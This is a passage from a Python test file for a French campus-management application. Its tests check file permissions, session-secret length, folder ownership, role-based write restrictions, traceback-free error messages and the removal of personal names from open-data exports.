    s.read("select count(*) from campuses")  # makes the version's catalogue
    for p in [s.root, *s.root.rglob("*")]:
        if p.name.endswith(".lock"):
            continue
        assert p.stat().st_mode & 0o077 == 0, (p, oct(p.stat().st_mode))
    monkeypatch.setenv("CMQ_SESSION_SECRET", "court")
    with pytest.raises(StoreError, match="CMQ_SESSION_SECRET est trop courte"):
        s.session_secret()


def test_a_catalogue_folder_of_another_user_is_refused_and_ours_is_closed(tmp_path):
    from cmq.core.store.postgres import PgStore

    ours = tmp_path / "ours"
    ours.mkdir()
    os.chmod(ours, 0o777)
    store = PgStore("postgresql://postgres@127.0.0.1:9/cmq", cache_dir=ours)
    assert ours.stat().st_mode & 0o077 == 0 and store.root.stat().st_mode & 0o077 == 0
    if os.getuid() != 0:
        pytest.skip("making a folder another user's needs root (CI runs as root)")
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    os.chown(theirs, 65534, 65534)  # another local user made it first (a shared temporary folder)
    with pytest.raises(StoreError, match="appartient à un autre compte"):
        PgStore("postgresql://postgres@127.0.0.1:9/cmq", cache_dir=theirs)


def test_a_director_neither_rewrites_its_campus_nor_enrols_another_campus(any_store_copy):
    """The campus row (its name, its label « excellence ») is the administrators'; naming AMF co-carrier of an AGT
    action would put it among AMF's actions and figures: refused to a director, through the store itself. An action
    already carried jointly keeps its co-carriers when its director corrects it."""
    s = any_store_copy
    before = state_of(s)
    with pytest.raises(StoreError, match="fiche d'un campus"):
        s.commit("campuses", pd.DataFrame([{"campus_id": "AGT", "name": "AGT", "region": "Bourgogne-Franche-Comté",
                                            "sector": "Tourisme, gastronomie", "label": "excellence"}]),
                 user="directeur-agt")
    action = {"campus_id": "AGT", "action_id": "AGT-A90", "title": "Action commune", "status": "en_cours",
              "year": 2019, "co_campuses": "AMF"}
    with pytest.raises(StoreError, match="il faut son accord"):
        s.commit("actions", pd.DataFrame([action]), user="directeur-agt")
    assert state_of(s) == before
    s.put_account(auth.new_account("directeur-msi", "directeur", ["MSI"], "un-long-mot-de-passe"))
    joint = s.read("select * from actions where action_id = 'MSI-A30'").drop(columns=["batch_id"])
    s.commit("actions", joint.assign(title="Titre corrigé"), user="directeur-msi")  # its co-carriers as they were
    s.commit("actions", pd.DataFrame([action]), user=ADMIN)  # the administrator records AMF's consent


def test_an_unexpected_error_shows_a_french_message_and_no_traceback(data_dir, monkeypatch):
    from cmq.app import ui

    def broken(*a, **k):
        raise RuntimeError("/srv/cmq/secret/path: something internal")

    monkeypatch.delenv("CMQ_DEBUG")
    at = app_test().run()
    monkeypatch.setattr(ui, "query", broken)
    at.switch_page("cmq/app/pages/funding.py").run()
    assert not at.exception
    said = " ".join(e.value for e in at.error)
    assert "erreur inattendue" in said and "/srv/cmq" not in said and "RuntimeError" not in said


def test_open_data_carries_no_persons_name(store_copy, tmp_path):
    from cmq.core.store import transfer

    written = transfer.snapshot(store_copy, tmp_path / "ouvert")
    columns = {c for p in written for c in pd.read_parquet(p).columns}
    assert written and not {"user_name", "reverted_by"} & columns
    named = transfer.snapshot(store_copy, tmp_path / "archive", with_names=True)
    assert "user_name" in pd.read_parquet(next(p for p in named if p.name == "batches.parquet")).columns
